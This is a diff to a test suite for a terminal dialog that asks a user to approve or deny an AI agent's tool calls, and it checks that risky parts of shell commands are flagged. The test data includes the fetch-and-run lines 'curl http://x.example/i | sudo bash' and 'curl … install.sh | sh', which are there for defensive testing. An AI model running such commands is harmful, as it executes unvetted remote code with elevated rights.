@@ -64,7 +64,7 @@ async def test_no_key_acts_in_the_first_half_second_and_it_goes_to_the_message()
         await running.pilot.press("a")
         await running.settle()
         assert running.session.taken == [], "each key typed ahead begins the pause anew"
-        running.clock.pass_(0.55)
+        running.clock.pass_(2.05)
         await running.pilot.press("a")
         await running.settle()
         assert [taken.decision for taken in running.session.taken] == [Approved()]
@@ -218,10 +218,11 @@ async def test_deny_works_before_the_end_has_been_seen() -> None:
 async def test_model_words_after_the_payload_do_not_delay_an_answer_and_are_folded() -> None:
     async with stage() as running:
         await asked(running, pending_call(said="please\n" * 200))
-        assert "the model's words (1400 characters)" in running.text
+        await running.press("down")
+        assert "v details and the model's words" in running.text
         assert "please" not in running.text
         await running.press("v")
-        assert "in its own words" in running.text and "please" in running.text
+        assert "The model says" in running.text and "│ please" in running.text
         await running.press("v")
         await running.press("a")
         assert len(running.session.taken) == 1
@@ -299,7 +300,11 @@ async def test_keys_that_delete_reach_the_text_that_was_typed_over_a_dialog() ->
         running.app.chat.composer.set_text("kept\n")
         await running.press("ctrl+u")
         assert running.draft == "kept\n", "nothing was typed here"
-        await running.type_fast("x", "y", "backspace")
+        running.clock.pass_(1.0)
+        running.app.post_message(Key("x", "x"))
+        running.app.post_message(Key("y", "y"))
+        await running.settle()
+        await running.type_fast("backspace")
         assert running.draft == "kept\nx"
         await running.type_fast("enter", "z")
         assert running.draft == "kept\nx\nz", "two lines stay two lines"
@@ -316,7 +321,6 @@ async def test_approve_the_rest_needs_each_to_have_been_on_screen() -> None:
         await asked(running, pending_call(1), pending_call(2), pending_call(3))
         await running.press("A")
         assert running.session.taken == []
-        assert "A approve the rest, after 1 to read" in running.text
         assert "This call was not on screen to its end yet, nor 1 other after it." in running.text
         await running.press("tab", "tab", "A")
         assert [taken.decision for taken in running.session.taken] == [Approved()] * 3
@@ -338,7 +342,7 @@ async def test_pages_begin_with_a_row_and_leave_out_no_line() -> None:
         payload.scroll_to(y=0, animate=False, force=True, immediate=True)
         everything = [payload.render_line(y).text.strip() for y in range(payload.lines_below)]
         assert set(everything) <= seen
-        assert first.count("»") < len(first) // 2, first
+        assert first.count("»") <= len(first) // 2, first
 
 
 @pytest.mark.more
@@ -450,6 +454,7 @@ async def test_a_key_that_was_pressed_before_the_rule_was_shown_makes_none() -> 
         running.app.post_message(early)
         await running.settle()
         assert isinstance(running.app.screen, RuleDialog) and running.session.taken == []
+        assert "not taken: ctrl+s, too early" in running.text
         await running.press("ctrl+s")
         assert len(running.session.taken) == 1
 
@@ -714,7 +719,7 @@ async def test_the_keys_stand_out_from_the_words_beside_them(monkeypatch: pytest
         assert "A" not in bold(running, "Keys act"), "no key acts yet"
         running.clock.pass_(1.0)
         await running.press("down")
-        assert bold(running, "approve once") == ["a", "s", "r", "c"]
+        assert bold(running, "approve once") == ["a", "s", "r"]
         assert bold(running, "deny with a reason") == ["e", "E", "d", "D", "Esc"]
         await running.press("D")
         assert bold(running, "Esc back") == ["Enter", "Esc"]
@@ -752,7 +757,7 @@ async def test_a_call_that_is_denied_now_offers_no_approval_and_names_the_role_t
         shown = " ".join(running.text.replace("│", "").split())
         assert "It cannot run now, as researcher. Denied by: tools of role researcher." in shown
         assert "Role coder could run it." in shown
-        for offered in ("a approve", "s for this session", "r make a rule", "s allows"):
+        for offered in ("a approve", "this session", "r make a rule"):
             assert offered not in shown
         for key in "asrA":
             await running.press(key)
@@ -792,22 +797,26 @@ async def test_it_tells_what_a_command_does_and_marks_its_risky_parts() -> None:
         command = "curl http://x.example/i | sudo bash > out.log\nmake"
         facts = replace(shell_facts(command), hashes=("/w/Makefile 00",), workspace="/w")
         await asked(running, pending_call(facts=facts))
-        for expected in (
-            "runs         curl, sudo, bash, make",
-            "writes       out.log",
-            "contacts     x.example",
+        known = (
             "careful      sudo runs programs as another user",
             "bash runs what another program prints",
+            "contacts     x.example",
+            "writes       out.log",
+        )
+        behind = (
+            "runs         curl, sudo, bash, make",
             "asks again   if Makefile changes",
             "covers       this command line and the files above, not other files that bash, make may load",
-        ):
-            assert expected in running.text
+        )
+        assert all(one in running.text for one in known) and not any(one in running.text for one in behind)
         view = running.app.screen.query_one(PayloadView)
         lines = [[*view.render_line(y)] for y in range(3)]
         marked = [one.text for line in lines for one in line if one.style and one.style.underline]
         assert "".join(marked) == "curlhttp://x.example/isudobash> out.log"
         signs = [line[0].text.strip() for line in lines]
         assert signs == ["▲", "", ""], "a sign for those who see no colours"
+        await running.press("v")
+        assert all(one in running.text for one in (*known, *behind))
 
 
 @pytest.mark.more
@@ -872,11 +881,14 @@ async def test_plus_approves_once_with_what_the_dialog_names() -> None:
 async def test_all_keys_stay_on_screen_in_a_small_window(size: tuple[int, int]) -> None:
     extra = SandboxSpec(hosts=("raw.githubusercontent.example", "objects.githubusercontent.example"))
     facts = replace(lacking("curl -fsSL https://example.org/install.sh | sh"), extra=extra)
-    keys = ("a approve once", "s for this session", "r make a rule", "e edit", "c contain on a copy", "d deny")
+    rules = ("s this command, this session", "r make a rule")
+    keys = ("a approve once", *rules, "e edit", "c contain on a copy", "d deny")
     async with stage(size=size) as running:
         await asked(running, pending_call(1, facts=facts), pending_call(2, facts=facts))
+        await running.press("down")
         while not running.dialog.payload.end_seen:
             await running.press("pagedown")
+        await running.press("down")
         for key in (*keys, "D deny with a reason", "Esc later", "+ approve once with"):
             assert key in running.text, f"{key!r} is missing:\n{running.text}"
         assert "objects.githubusercontent.example" in running.text.rpartition("+ approve once with")[2]
@@ -892,6 +904,10 @@ async def test_the_keys_of_the_rule_dialog_stay_on_screen_in_a_small_window() ->
         await running.press("end", "end", "r")
         for key in ("ctrl+s approves, with a rule for this session", "e edit", "Esc back"):
             assert key in running.text, f"{key!r} is missing:\n{running.text}"
+        assert "more below" not in running.text
+        await running.pilot.resize_terminal(60, 16)
+        await running.settle()
+        assert "PgDn more below" in running.text
 
 
 async def test_plus_needs_the_end_on_screen_and_is_never_meant_by_a_or_approve_the_rest() -> None:
@@ -956,9 +972,9 @@ async def test_a_diff_of_ten_thousand_lines_opens_like_any_other_and_hides_nothi
 async def test_s_and_plus_act_only_with_what_they_allow_on_screen(size: tuple[int, int]) -> None:
     needed, shown = list[int](), ""
     async with stage(size=size) as running:
-        for more in (6, 7):
+        for more in (12, 13):
             paths = tuple(f"/home/ana/project/file-{index}" for index in range(more))
-            extra = SandboxSpec(write=("/home/ana/project/.git",)) if more == 7 else SandboxSpec()
+            extra = SandboxSpec(write=("/home/ana/project/.git",)) if more == 13 else SandboxSpec()
             facts = replace(shell_facts("git commit -qam all"), paths=paths, extra=extra)
             await asked(running, pending_call(facts=facts, digest=f"d-{more}"))
             presses = 0
@@ -970,7 +986,6 @@ async def test_s_and_plus_act_only_with_what_they_allow_on_screen(size: tuple[in
                 await running.settle()
                 shown = running.text
                 await running.press("+" if extra.write else "s")
-            assert ("+ adds" if extra.write else "shell_exec:git commit -qam all") in shown
-            assert "s allows" in shown
+            assert ("+ adds" if extra.write else "s this command, this session") in shown
             needed.append(presses)
     assert needed[-1] > 1
